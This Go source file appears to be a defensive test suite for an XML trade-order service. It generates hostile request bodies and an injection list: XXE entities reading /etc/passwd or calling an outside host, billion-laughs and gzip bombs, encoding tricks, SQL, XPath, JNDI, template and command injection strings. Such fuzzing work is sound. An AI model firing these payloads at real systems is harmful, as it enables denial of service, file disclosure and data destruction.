package main

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"strings"
	"unicode/utf16"
)

// attack is a hostile body.
type attack struct {
	body     []byte
	encoding string // Content-Encoding
}

const trade = `<Trade xmlns="http://tpox-benchmark.com/custacc"><Symbol>%s</Symbol><Quantity>1</Quantity></Trade>`

// attacks returns all attacks. Nothing may connect to the address outside.
func attacks(outside string) map[string]attack {
	plain := func(format string, args ...any) attack { return attack{body: fmt.Appendf(nil, format, args...)} }
	wide := func(text string, order binary.AppendByteOrder, mark bool) attack {
		var b []byte
		if mark {
			b = order.AppendUint16(b, 0xFEFF)
		}
		for _, u := range utf16.Encode([]rune(text)) {
			b = order.AppendUint16(b, u)
		}
		return attack{body: b}
	}
	numbered := func(n int, format string) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, format, i)
		}
		return b.String()
	}
	laughs := `<!DOCTYPE l [<!ENTITY l0 "lol">`
	for i := range 30 {
		laughs += fmt.Sprintf(`<!ENTITY l%d %q>`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	order := fmt.Sprintf(trade, "A")
	return map[string]attack{
		// Entities, and markup that could make a parser connect to another host.
		"BillionLaughs": plain("%s]><a>&l30;</a>", laughs),
		"QuadraticBlowup": plain(`<!DOCTYPE a [<!ENTITY x "%s">]><a>%s</a>`, strings.Repeat("x", 50_000),
			strings.Repeat("&x;", 50_000)),
		"EntityLoop":       plain(`<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>`),
		"ExternalEntity":   plain(`<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`),
		"ExternalByHTTP":   plain(`<!DOCTYPE a [<!ENTITY x SYSTEM "http://%s/x">]><a>&x;</a>`, outside),
		"ParameterEntity":  plain(`<!DOCTYPE a [<!ENTITY %% x SYSTEM "http://%s/x"> %%x;]><a/>`, outside),
		"ExternalDTD":      plain(`<!DOCTYPE a SYSTEM "http://%s/x.dtd"><a/>`, outside),
		"PublicDTD":        plain(`<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://%s/x.dtd"><a/>`, outside),
		"AttributeDefault": plain(`<!DOCTYPE a [<!ATTLIST a b CDATA "x">]><a/>`),
		"DTDInLowerCase":   plain(`<!doctype a><a/>`),
		"DTDWideCharacters": wide(`<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, binary.LittleEndian,
			true),
		"XInclude": {
			body: []byte(`<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://` + outside + `/"/></a>`),
		},
		"SchemaLocation": {
			body: []byte(
				`<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="u http://` + outside + `/x.xsd"/>`),
		},
		"Stylesheet": {body: []byte(`<?xml-stylesheet type="text/xsl" href="http://` + outside + `/x.xsl"?><a/>`)},
		// Floods.
		"Attributes":       plain("<a%s/>", numbered(50_000, ` a%d=""`)),
		"SameAttributes":   plain("<a%s/>", strings.Repeat(` a=""`, 100_000)),
		"HashedAttributes": plain("<a%s/>", numbered(50_000, ` a%[1]d:b=""`)),
		"Namespaces":       plain("<a%s/>", numbered(30_000, ` xmlns:a%[1]d="u%[1]d"`)),
		"Redeclared":       plain("<a>%s</a>", strings.Repeat(`<p:b xmlns:p="u"/>`, 40_000)),
		"Deep":             plain("%s%s", strings.Repeat("<a>", 100_000), strings.Repeat("</a>", 100_000)),
		"DeepWithoutEnd":   plain("%s", strings.Repeat("<a>", 300_000)),
		"DeepWithPrefixes": plain("%s", strings.Repeat(`<p:a xmlns:p="u">`, 50_000)),
		"Elements":         plain("<a>%s</a>", strings.Repeat("<b/>", 200_000)),
		"HugeName":         plain("<%s/>", strings.Repeat("a", 1_000_000)),
		"HugeNameTwice":    plain("<%[1]s></%[1]sb>", strings.Repeat("a", 500_000)),
		"HugePrefix":       plain(`<%[1]s:a xmlns:%[1]s="u"/>`, strings.Repeat("p", 500_000)),
		"HugeValue":        plain(`<a b="%s"/>`, strings.Repeat("&#9;", 250_000)),
		"HugeNamespace":    plain(`<a xmlns="%s"/>`, strings.Repeat("u", 1_000_000)),
		"References":       plain("<a>%s</a>", strings.Repeat("&#38;", 200_000)),
		"LongReference":    plain("<a>&#%s65;</a>", strings.Repeat("0", 1_000_000)),
		"Comments":         plain("<a>%s</a>", strings.Repeat("<!---->", 140_000)),
		"CommentNoEnd":     plain("<a><!--%s", strings.Repeat("- ", 500_000)),
		"Instructions":     plain("<a>%s</a>", strings.Repeat("<?b?>", 200_000)),
		"CDATA":            plain("<a>%s</a>", strings.Repeat("<![CDATA[]]>", 80_000)),
		"CDATANoEnd":       plain("<a><![CDATA[%s", strings.Repeat("]]", 500_000)),
		"Ampersands":       plain("<a>%s</a>", strings.Repeat("&", 1_000_000)),
		"Less":             plain("%s", strings.Repeat("<", 1_000_000)),
		"Blanks":           plain("%s<a/>", strings.Repeat(" ", 1_000_000)),
		"TooLong":          plain("<a>%s</a>", strings.Repeat("x", 3<<20)),
		// Encodings.
		"UTF7":             plain(`<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-`),
		"UTF32":            {body: []byte{0xFF, 0xFE, 0, 0, '<', 0, 0, 0, 'a', 0, 0, 0, '/', 0, 0, 0, '>', 0, 0, 0}},
		"EBCDIC":           {body: []byte{0x4C, 0x6F, 0xA7, 0x94, 0x93}},
		"WideWithoutMark":  wide("<a/>", binary.LittleEndian, false),
		"WideDeclaredUTF8": {body: wide(`<?xml version="1.0" encoding="UTF-8"?><a/>`, binary.BigEndian, true).body},
		"WideCutInHalf":    {body: wide("<a/>", binary.BigEndian, true).body[:9]},
		"LoneSurrogate": {body: append(wide("<a>", binary.LittleEndian, true).body, 0x00, 0xD8, '<', 0, '/', 0, 'a', 0, '>',
			0)},
		"MarkTwice":        {body: []byte("\xEF\xBB\xBF\xEF\xBB\xBF<a/>")},
		"DeclaredWide":     plain(`<?xml version="1.0" encoding="UTF-16"?><a/>`),
		"DeclaredTwice":    plain(`<?xml version="1.0" encoding="UTF-8" encoding="UTF-16"?><a/>`),
		"DeclaredLater":    plain(` <?xml version="1.0"?><a/>`),
		"OddVersion":       plain(`<?xml version="9.9"?><a/>`),
		"Overlong":         {body: []byte("<a>\xC0\xBCscript\xC0\xBE</a>")},
		"OverlongThree":    {body: []byte("\xE0\x80\xBCa/>")},
		"Surrogates":       {body: []byte("<a>\xED\xA0\x80\xED\xB0\x80</a>")},
		"BeyondUnicode":    {body: []byte("<a>\xF4\x90\x80\x80</a>")},
		"CutCharacter":     {body: []byte("<a>\xE2\x82</a>")},
		"CutAtTheEnd":      {body: []byte("<a>\xE2")},
		"NUL":              plain("<a>\x00</a>"),
		"NULReference":     plain("<a>&#0;</a>"),
		"NULInName":        plain("<a\x00b/>"),
		"ControlReference": plain("<a>&#8;</a>"),
		"NegativeRef":      plain("<a>&#-1;</a>"),
		"OverflowRef":      plain("<a>&#4294967361;</a>"),
		// Namespaces.
		"UndeclaredPrefix": plain("<p:a/>"),
		"PrefixTakenBack":  plain(`<a xmlns:p="u"><b xmlns:p=""/></a>`),
		"XMLRebound":       plain(`<a xmlns:xml="u"/>`),
		"XMLNSBound":       plain(`<a xmlns:xmlns="u"/>`),
		"BoundToXML":       plain(`<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>`),
		"SameByExpansion":  plain(`<a xmlns:p="u" xmlns:q="u" p:b="1" q:b="2"/>`),
		"TwoColons":        plain(`<a:b:c xmlns:a="u"/>`),
		"EmptyPrefix":      plain(`<:a/>`),
		"OtherNamespace":   {body: []byte(strings.Replace(order, "custacc", "custacc2", 1))},
		"NoNamespace":      {body: []byte(`<Trade><Symbol>A</Symbol><Quantity>1</Quantity></Trade>`)},
		"WrongEnd":         plain("<a></b>"),
		"TwoRoots":         plain("<a/><a/>"),
		// Packed bodies.
		"GzipBomb":      {packed(1<<26, 1), "gzip"},
		"GzipTwice":     {packed(1<<24, 2), "gzip, gzip"},
		"Gzip":          {packed(10, 1), "x-gzip"},
		"Deflate":       {deflated(1 << 26), "deflate"},
		"Brotli":        {[]byte(order), "br"},
		"Zstd":          {[]byte(order), "zstd"},
		"GzipUndeclare": {packed(1<<24, 1), ""},
	}
}

func packed(size int64, times int) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	zeros := make([]byte, 1<<16)
	for ; size > 0; size -= int64(len(zeros)) {
		_, _ = w.Write(zeros[:min(size, int64(len(zeros)))]) // into memory
	}
	_ = w.Close()
	for ; times > 1; times-- {
		inner := bytes.Clone(out.Bytes())
		out.Reset()
		w.Reset(&out)
		_, _ = w.Write(inner)
		_ = w.Close()
	}
	return out.Bytes()
}

func deflated(size int) []byte {
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	_, _ = w.Write(make([]byte, size)) // into memory
	_ = w.Close()
	return out.Bytes()
}

// payloads would have an effect if any of them were executed as code. Those that sleep do so for longer than a request
// may take, so that a 504 shows them.
var payloads = []string{
	`' OR '1'='1`, `" OR ""="`, `1; DROP TABLE orders; --`, `'; DELETE FROM customers; --`,
	`1 UNION SELECT doc FROM orders`, `') OR 1=1 --`,
	`\'; SELECT pg_sleep(60); --`, `'||(SELECT version())||'`, `%27%20OR%201=1`, `'] | //* | a['`,
	`' or count(//Account)>0 or '`, `*[1]`, `string(//Customer)`,
	`${jndi:ldap://127.0.0.1/x}`, `{{7*7}}`, `$(touch /tmp/x)`, `../../../../etc/passwd`, `<!DOCTYPE a>`, `]]><a/>`,
	`&xxe;`, "a\x00b", "a\r\nSet-Cookie: b=c",
	`＇ OR 1=1`, `A' AND (SELECT 1 FROM pg_sleep(60)) --`, `A'; ATTACH DATABASE 'x.db' AS x; --`,
}
